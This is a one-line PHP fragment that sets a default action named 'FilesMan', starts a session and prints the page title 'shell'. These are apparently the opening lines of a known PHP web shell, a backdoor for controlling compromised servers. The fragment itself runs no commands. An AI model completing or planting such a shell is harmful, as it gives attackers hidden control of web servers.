<?php $default_action = 'FilesMan'; @session_start(); echo "<title>shell</title>";
